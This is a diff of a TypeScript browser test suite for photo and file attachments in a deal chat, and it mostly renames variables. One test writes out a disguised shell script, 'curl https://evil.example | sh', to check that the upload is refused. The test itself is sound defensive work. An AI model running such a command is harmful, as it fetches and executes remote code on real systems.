@@ -14,7 +14,7 @@ import {
 } from './deal-user-actions.ts';
 import { startApprovedDeal, waitUntil } from './market-fixtures.ts';
 
-const { scenario: scene, run } = createBrowserSuite('files of a deal');
+const { scenario, run } = createBrowserSuite('files of a deal');
 
 const MEGABYTE = 1024 * 1024;
 /** A photo by its first bytes, as a camera writes them; the rest is noise that no proxy makes smaller. */
@@ -25,20 +25,17 @@ function photo(name: string, bytes: number): Attachment {
 }
 const picture = (name: string): Attachment => ({ name, mimeType: 'image/png', buffer: RED_PIXEL_PNG });
 
-async function enterBoth(house: BrowserEnv): Promise<{ alice: Phone; bob: Phone }> {
-  const dealId = await startApprovedDeal(house, ALICE, BOB);
-  const [alice, bob] = await Promise.all([
-    openDealPage(house, ALICE, dealId),
-    openDealPage(house, BOB, dealId),
-  ]);
+async function enterBoth(env: BrowserEnv): Promise<{ alice: Phone; bob: Phone }> {
+  const dealId = await startApprovedDeal(env, ALICE, BOB);
+  const [alice, bob] = await Promise.all([openDealPage(env, ALICE, dealId), openDealPage(env, BOB, dealId)]);
   return { alice, bob };
 }
 const opener = ({ page }: Phone, name: string) => page.getByRole('button', { name: `Open photo ${name}` });
 
-scene(
+scenario(
   'CHAT-02 a script under a picture’s name is refused, a photo of 10 MB passes, one byte more does not',
-  async (house) => {
-    const { alice, bob } = await enterBoth(house);
+  async (env) => {
+    const { alice, bob } = await enterBoth(env);
     const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
     await attachFile(alice, 'Photo', { name: 'receipt.png', mimeType: 'image/png', buffer: script });
     await expectText(alice, 'Only images and PDF files are supported.');
@@ -59,10 +56,10 @@ scene(
   },
 );
 
-scene('CHAT-02 CHAT-06 names in Cyrillic, Arabic and emoji come back whole', async (house) => {
-  const dealId = await startApprovedDeal(house, ALICE, BOB);
-  const alice = await openDealPage(house, ALICE, dealId);
-  const bob = await openDealPage(house, BOB, dealId, { version: '7.0', platform: 'tdesktop' });
+scenario('CHAT-02 CHAT-06 names in Cyrillic, Arabic and emoji come back whole', async (env) => {
+  const dealId = await startApprovedDeal(env, ALICE, BOB);
+  const alice = await openDealPage(env, ALICE, dealId);
+  const bob = await openDealPage(env, BOB, dealId, { version: '7.0', platform: 'tdesktop' });
   for (const name of [
     'Чек об оплате № 7.png',
     'إيصال الدفع.png',
@@ -80,10 +77,10 @@ scene('CHAT-02 CHAT-06 names in Cyrillic, Arabic and emoji come back whole', asy
   }
 });
 
-scene(
+scenario(
   'CHAT-02 CHAT-07 an upload that is stopped is sent again, once; a discarded one never',
-  async (house) => {
-    const { alice, bob } = await enterBoth(house);
+  async (env) => {
+    const { alice, bob } = await enterBoth(env);
     alice.problems.allow(/ERR_|\[WARN\]|Failed to load/);
     // Cut, so that an upload lasts as long as the test needs.
     alice.cutConnection();
